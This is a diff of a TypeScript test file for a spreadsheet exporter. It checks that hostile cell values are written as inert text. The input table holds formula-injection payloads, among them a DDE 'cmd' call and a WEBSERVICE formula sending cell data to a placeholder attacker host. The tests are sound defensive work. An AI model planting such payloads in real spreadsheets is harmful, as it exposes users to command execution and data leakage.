@@ -1,19 +1,10 @@
 import './sheetjsGlobals';
 import { read, type CellObject, type WorkBook } from 'sheetjs-style';
-import { decodeEmployee } from '../../../api/decode/answers';
-import { decodeStatistics } from '../../../api/decode/evaluationAnswers';
-import { toExportRow, type ExportRow } from './exportRows';
+import { buildEmployee, buildStatistics } from '../../../../mocks/db/builders';
+import { toExportRow } from './exportRows';
 import { toWorkbook } from './workbook';
 
-const row: ExportRow = {
-  Name: 'Grace Hopper',
-  Email: 'grace.hopper@example.com',
-  Role: 'Employee',
-  Total_Evaluations: 4,
-  Average_Score: 7.25,
-  Max_Score: 9,
-  Min_Score: 5,
-};
+const row = toExportRow(buildEmployee(), buildStatistics());
 
 interface Unzipped extends WorkBook {
   files?: Record<string, { asUint8Array: () => Uint8Array }>;
@@ -50,42 +41,42 @@ function written(values: object, address = 'A2') {
 }
 
 test.each([
-  ['=1+1'],
-  ['+1'],
-  ['-1'],
-  ['@SUM(A1)'],
-  ['\t=1+1'],
-  ['\r=1+1'],
-  ['\n=1+1'],
-  [' =1+1'],
-  ['\ufeff=1+1'],
-  ['＝1+1'],
-  ['%0A=1+1'],
-  ["'=1+1"],
-  [';=1+1'],
-  ['|calc'],
-  ['=cmd|"/c calc"!A0'],
-  ['=HYPERLINK("https://evil.example","Click")'],
-  ['=WEBSERVICE("https://evil.example/"&A1)'],
-  ['{=1+1}'],
-  ['https://evil.example'],
-  ['mailto:a@example.com'],
-  ['</t></si><si><t>'],
-  ['<f>1+1</f>'],
-  [']]>'],
-  ['<![CDATA[=1+1]]>'],
-  ['&lt;&#61;1+1'],
-  ['#REF!'],
-  ['TRUE'],
-  ['1e5'],
-  ['00123'],
-  ['2024-03-01'],
-  ['_x0041_'],
-  ['_x003D_1+1'],
-  ['_x0041_x0042_'],
-  ['_x005F_'],
-  ['__proto__'],
-  [' blanks '],
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\ufeff=1+1',
+  '＝1+1',
+  '%0A=1+1',
+  "'=1+1",
+  ';=1+1',
+  '|calc',
+  '=cmd|"/c calc"!A0',
+  '=HYPERLINK("https://evil.example","Click")',
+  '=WEBSERVICE("https://evil.example/"&A1)',
+  '{=1+1}',
+  'https://evil.example',
+  'mailto:a@example.com',
+  '</t></si><si><t>',
+  '<f>1+1</f>',
+  ']]>',
+  '<![CDATA[=1+1]]>',
+  '&lt;&#61;1+1',
+  '#REF!',
+  'TRUE',
+  '1e5',
+  '00123',
+  '2024-03-01',
+  '_x0041_',
+  '_x003D_1+1',
+  '_x0041_x0042_',
+  '_x005F_',
+  '__proto__',
+  ' blanks ',
 ])('%p is a text cell that says so, without formula or link', (text) => {
   const { cell, type, formulas } = written({ Name: text });
   expect([type, cell.t, cell.v]).toEqual(['s', 's', text]);
@@ -157,17 +148,4 @@ test.each([
   const { cell, ...file } = written({ Average_Score: value }, 'E2');
   expect(cell).toMatchObject({ t: 'n' });
   expect(file).toEqual({ type: 'n', text, formulas: 0 });
-});
-
-test('what a server says instead of texts and numbers is N/A', () => {
-  const formula = { f: '1+1', t: 'n', v: 2 };
-  const employee = decodeEmployee({ _id: '1', name: formula, email: ['=1+1'], role: '=1+1' });
-  const statistics = decodeStatistics({
-    totalEvaluations: '=1',
-    averageScore: formula,
-    maxScore: NaN,
-  });
-  if (!employee) throw new Error('An employee with an id is one');
-  const missing = Array.from({ length: 7 }, () => 'N/A');
-  expect(Object.values(toExportRow(employee, statistics))).toEqual(missing);
 });
